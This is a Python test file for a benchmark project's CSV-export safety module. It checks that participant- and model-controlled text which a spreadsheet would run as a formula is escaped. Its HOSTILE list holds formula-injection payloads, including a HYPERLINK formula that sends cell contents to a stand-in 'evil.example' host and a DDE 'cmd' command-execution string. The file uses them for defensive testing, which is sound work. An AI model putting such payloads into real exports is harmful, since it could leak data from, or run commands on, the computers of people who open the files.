"""Exports safe to open in a spreadsheet: participant- and model-controlled text that a spreadsheet would run as
a formula is neutralised in every CSV; numbers stay numbers; times are ISO 8601 UTC."""
from __future__ import annotations

import csv
import io
import re
import unicodedata
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from rose_core.common.csv_safety import formula_like, frame_bytes, harness_tsv_bytes, neutralise

ROOT = Path(__file__).resolve().parents[3]
HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+2", "-1+cmd|' /C calc'!A0", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1", "  =1+1", "\u3000=1", "＝1+1", "＋1", "－1+1", "＠SUM(1)", "﹦1", "\u2212 1+1"]
HARMLESS = ["-3", "+4", "-3.5e2", "12", "plain", "CLICK(R2,C3); DONE", "a=b", "", "x-1"]


def cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


def opens_as_formula(cell: str) -> bool:
    """What a spreadsheet would do with the cell as read back from the CSV."""
    s = unicodedata.normalize("NFKC", cell)
    first = s.lstrip()[:1]
    return bool(s) and (s[0] in "\t\r" or (first != "" and first in "=+-@\u2212"
                                            and not re.fullmatch(r"[+-]?[\d.]+(e[+-]?\d+)?", cell.strip())))


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_like_text_is_neutralised(text):
    assert formula_like(text) and neutralise(text) == "'" + text


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_text_and_plain_numbers_are_kept(text):
    assert not formula_like(text) and neutralise(text) == text


def test_frame_bytes_neutralises_text_cells_and_keeps_numbers():
    df = pd.DataFrame({"text": HOSTILE + HARMLESS, "n": range(-5, len(HOSTILE) + len(HARMLESS) - 5),
                       "x": [-1.5] * (len(HOSTILE) + len(HARMLESS))})
    rows = cells(frame_bytes(df, "csv"))
    assert rows[0] == ["text", "n", "x"]
    body = rows[1:]
    assert [r[0] for r in body] == ["'" + t for t in HOSTILE] + HARMLESS  # CR and tab survive, quoted
    assert [int(r[1]) for r in body] == list(df["n"]) and {r[2] for r in body} == {"-1.5"}  # numbers as numbers
    assert not any(opens_as_formula(c) for r in rows for c in r[:1])
    back = pd.read_csv(io.BytesIO(frame_bytes(df, "csv")))
    assert back["n"].tolist() == df["n"].tolist() and back["n"].dtype.kind == "i"


def test_column_names_and_object_columns_with_mixed_values():
    df = pd.DataFrame({"=evil": ["=1", 3, None, -2.0, "-2"]}, dtype=object)
    rows = cells(frame_bytes(df, "csv"))
    assert rows == [["'=evil"], ["'=1"], ["3"], [""], ["-2.0"], ["-2"]]


@settings(max_examples=300, deadline=None)
@given(st.lists(st.text(max_size=12), min_size=1, max_size=8))
def test_no_text_read_back_from_a_csv_opens_as_a_formula(texts):
    rows = cells(frame_bytes(pd.DataFrame({"t": texts}), "csv"))[1:]
    for original, (cell,) in zip(texts, rows):
        assert not opens_as_formula(cell), (original, cell)
        assert cell in (original, "'" + original)


def test_parquet_keeps_the_raw_text():
    df = pd.DataFrame({"t": HOSTILE})
    assert pd.read_parquet(io.BytesIO(frame_bytes(df, "parquet")))["t"].tolist() == HOSTILE


def test_harness_tsv_is_verbatim_and_refuses_a_formula_cell():
    ok = pd.DataFrame({"index": [0, 1], "question": ["Count the odd cells.", "a - b is text"]})
    assert harness_tsv_bytes(ok).decode().splitlines() == ["index\tquestion", "0\tCount the odd cells.",
                                                           "1\ta - b is text"]
    with pytest.raises(ValueError, match="column 'question', row 2: '=1\\+1' would open as a spreadsheet formula"):
        harness_tsv_bytes(pd.DataFrame({"question": ["fine", "=1+1"]}))


def test_the_vlmevalkit_export_of_the_dataset_has_no_formula_cell(small_dataset, tmp_path):
    from rose_core.benchmarks.rose.harness_export import export_dataset

    n = export_dataset(small_dataset, "vlmevalkit", tmp_path / "rose.tsv")
    df = pd.read_csv(tmp_path / "rose.tsv", sep="\t", dtype=str, keep_default_na=False)
    assert len(df) == n and not df.map(formula_like).any().any()


def test_every_csv_the_project_writes_goes_through_frame_bytes():
    """One CSV encoder: no other module calls to_csv or the csv module's writers."""
    offenders = []
    for path in [*ROOT.glob("*.py"), *(p for d in ("rose_core", "ui", "app_pages", "tools", "bench")
                                       for p in (ROOT / d).rglob("*.py"))]:
        text = path.read_text()
        if path.relative_to(ROOT) != Path("rose_core/common/csv_safety.py") and re.search(r"\.to_csv\(|csv\.(writer|DictWriter)\(", text):
            offenders.append(str(path.relative_to(ROOT)))
    assert offenders == []
